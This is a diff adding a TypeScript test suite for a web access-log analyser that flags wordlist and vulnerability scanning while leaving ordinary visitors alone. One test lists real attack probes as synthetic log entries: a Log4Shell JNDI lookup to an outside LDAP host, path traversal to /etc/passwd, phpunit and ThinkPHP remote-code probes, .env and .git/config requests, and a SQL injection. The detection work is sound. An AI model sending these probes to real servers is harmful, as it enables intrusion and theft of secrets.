@@ -1,0 +1,165 @@
+import assert from 'node:assert/strict';
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { type TestContext, test } from 'node:test';
+import type { RunResult } from '../../src/engine/options.ts';
+import { run } from '../../src/engine/run.ts';
+import { scratch } from '../input/scratch.ts';
+import { guesses, type Hit, lineOf, logOf, START, visitors } from '../support/weblog.ts';
+
+const SCANNER = '192.0.2.66';
+const WORDS = Array.from({ length: 60 }, (_, at) => `${'qwertzuiopasdfghjkl'[at % 19]}word${'abc'[at % 3]}${'xyzuvw'[at % 6]}`);
+
+interface Given {
+  readonly files: Readonly<Record<string, string>>;
+  readonly workers?: number;
+}
+
+async function runOn(context: TestContext, { files, workers = 1 }: Given): Promise<RunResult> {
+  const folder = scratch(context);
+  const paths = Object.entries(files).map(([name, text]) => {
+    const path = join(folder, name);
+    writeFileSync(path, text);
+    return path;
+  });
+  return run({ paths, workers, home: [], falsePerDay: 1 });
+}
+
+const blamed = ({ findings }: RunResult): string[] => findings.map(({ source }) => source?.address ?? 'campaign');
+
+/** What a person would call the same finding: who, what, from when. */
+const essence = ({ findings }: RunResult): unknown[] =>
+  findings.map(({ id, source, techniques, shape }) => [id, source?.address, techniques[0], shape]);
+
+function shuffledWithin<T extends Hit>(hits: readonly T[], seconds: number): T[] {
+  let state = 7;
+  const random = (): number => {
+    state = (Math.imul(state, 1103515245) + 12345) >>> 0;
+    return state / 2 ** 32;
+  };
+  return hits
+    .map((hit) => ({ hit, key: hit.at + random() * seconds }))
+    .sort((a, b) => a.key - b.key)
+    .map(({ hit }) => hit);
+}
+
+test('visitors are left alone: dead links, icons that are missing, and a page that many miss', async (context) => {
+  const result = await runOn(context, { files: { 'access.log': logOf(visitors(200)) } });
+  assert.deepEqual(blamed(result), []);
+  assert.ok(Math.abs(result.summary.sources - 200) < 10, `${result.summary.sources} sources`);
+});
+
+test('the first visitor of a page full of dead links is left alone too', async (context) => {
+  const page: Hit[] = [{ at: START, source: '198.51.100.9', target: '/gallery.html' }];
+  for (let at = 0; at < 40; at += 1)
+    page.push({
+      at: START + 1,
+      source: '198.51.100.9',
+      target: `/img/photo-${'abcdefghijklmnopqrstuvwxyz'[at % 26]}${'xy'[at % 2]}${at > 25 ? 'q' : ''}.jpg`,
+      status: 404,
+      bytes: 150,
+      referer: 'http://www.example.org/gallery.html',
+    });
+  assert.deepEqual(blamed(await runOn(context, { files: { 'access.log': logOf([...visitors(50), ...page]) } })), []);
+});
+
+test('a referer that was never fetched excuses nobody', async (context) => {
+  const liar = guesses(WORDS, SCANNER, { referer: 'http://www.example.org/gallery.html' });
+  const result = await runOn(context, { files: { 'access.log': logOf([...visitors(50), ...liar]) } });
+  assert.deepEqual(blamed(result), [SCANNER]);
+});
+
+test('guessed paths are wordlist scanning, whatever the user agent', async (context) => {
+  const result = await runOn(context, { files: { 'access.log': logOf([...visitors(50), ...guesses(WORDS, SCANNER)]) } });
+  const [finding] = result.findings;
+  assert.deepEqual(blamed(result), [SCANNER]);
+  assert.equal(finding.techniques[0], 'T1595.003');
+  assert.equal(finding.shape, 'wordlist');
+  assert.equal(finding.targets.paths, WORDS.length);
+  assert.equal(finding.wordlist?.name, 'undecided');
+});
+
+test('requests that look for weaknesses are vulnerability scanning', async (context) => {
+  const targets = [
+    '/?x=${jndi:ldap://192.0.2.1/a}',
+    '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd',
+    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+    '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array',
+    '/.env',
+    '/.git/config',
+    '/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--',
+  ];
+  const hits = targets.map((target, at) => ({ at: START + 60 + at, source: SCANNER, target, status: 404, bytes: 150 }));
+  const result = await runOn(context, { files: { 'access.log': logOf([...visitors(50), ...hits]) } });
+  assert.deepEqual(blamed(result), [SCANNER]);
+  assert.equal(result.findings[0].techniques[0], 'T1595.002');
+  assert.equal(result.findings[0].shape, 'vulnerability');
+});
+
+test('what was found stands in the finding, with status and size', async (context) => {
+  const found: Hit = { at: START + 640, source: SCANNER, target: '/backup.zip', status: 200, bytes: 24828 };
+  const result = await runOn(context, {
+    files: { 'access.log': logOf([...visitors(50), ...guesses(WORDS, SCANNER), found]) },
+  });
+  const fact = result.findings[0].learned.find(({ path }) => path === '/backup.zip');
+  assert.deepEqual([fact?.status, fact?.bytes], [200, 24828]);
+});
+
+test('the same requests in two logs count once, and the counters say so', async (context) => {
+  const hits = [...visitors(40), ...guesses(WORDS, SCANNER)];
+  const plain = logOf(hits);
+  const byHost = logOf(hits.map((hit) => ({ ...hit, site: 'www.example.org:80' })));
+  const [once, both] = [
+    await runOn(context, { files: { 'access.log': plain } }),
+    await runOn(context, { files: { 'access.log': plain, 'access-vhost.log': byHost } }),
+  ];
+  assert.deepEqual(essence(both), essence(once));
+  // what was learned of the site is learned by host in one log and by server in the other, so bits may differ a little
+  assert.ok(Math.abs(both.findings[0].bits - once.findings[0].bits) < 10);
+  assert.equal(both.findings[0].probes, once.findings[0].probes);
+  assert.equal(
+    both.summary.inputs.reduce((sum, { duplicate }) => sum + duplicate, 0),
+    hits.length,
+  );
+});
+
+test('lines shuffled within two minutes give the same findings', async (context) => {
+  const hits = [...visitors(60), ...guesses(WORDS, SCANNER)].sort((a, b) => a.at - b.at);
+  const ordered = await runOn(context, { files: { 'access.log': logOf(hits) } });
+  const shuffled = `${shuffledWithin(hits, 120).map(lineOf).join('\n')}\n`;
+  assert.deepEqual(essence(await runOn(context, { files: { 'access.log': shuffled } })), essence(ordered));
+});
+
+test('one line dated 1970 and one dated 2038 change no finding', async (context) => {
+  const hits = [...visitors(60), ...guesses(WORDS, SCANNER)];
+  const lines = logOf(hits).split('\n');
+  const stray = [0, 2 ** 31 - 1].map((at) => lineOf({ at, source: '198.51.100.250', target: '/' }));
+  const text = [...lines.slice(0, 100), ...stray, ...lines.slice(100)].join('\n');
+  const ids = ({ findings }: RunResult): string[] => findings.map(({ id }) => id);
+  const before = await runOn(context, { files: { 'access.log': logOf(hits) } });
+  assert.deepEqual(ids(await runOn(context, { files: { 'access.log': text } })), ids(before));
+});
+
+test('a log read by a thread of its own gives the same, byte for byte', async (context) => {
+  const hits = [...visitors(4000), ...guesses(WORDS, SCANNER)];
+  const text = logOf(Array.from({ length: 3 }, () => hits).flat());
+  assert.ok(text.length > 1 << 23, 'large enough for a thread');
+  const results: string[] = [];
+  for (const workers of [1, 2]) {
+    const { findings, summary } = await runOn(context, { files: { 'access.log': text }, workers });
+    const inputs = summary.inputs.map((input) => ({ ...input, name: '' }));
+    results.push(JSON.stringify({ inputs, findings }).replaceAll(/"[^"]*access\.log"/g, '""'));
+  }
+  assert.equal(results[0], results[1]);
+});
+
+test('rotated files are read in the order of time, and one scan over them is one finding', async (context) => {
+  const hits = [...visitors(60), ...guesses(WORDS, SCANNER)].sort((a, b) => a.at - b.at);
+  const half = Math.floor(hits.length / 2);
+  const result = await runOn(context, {
+    files: { 'access.log': logOf(hits.slice(half)), 'access.log.1': logOf(hits.slice(0, half)) },
+  });
+  assert.deepEqual(blamed(result), [SCANNER]);
+  assert.ok(result.summary.inputs[0].name.endsWith('access.log.1'));
+  assert.equal(result.findings[0].targets.paths, WORDS.length);
+});
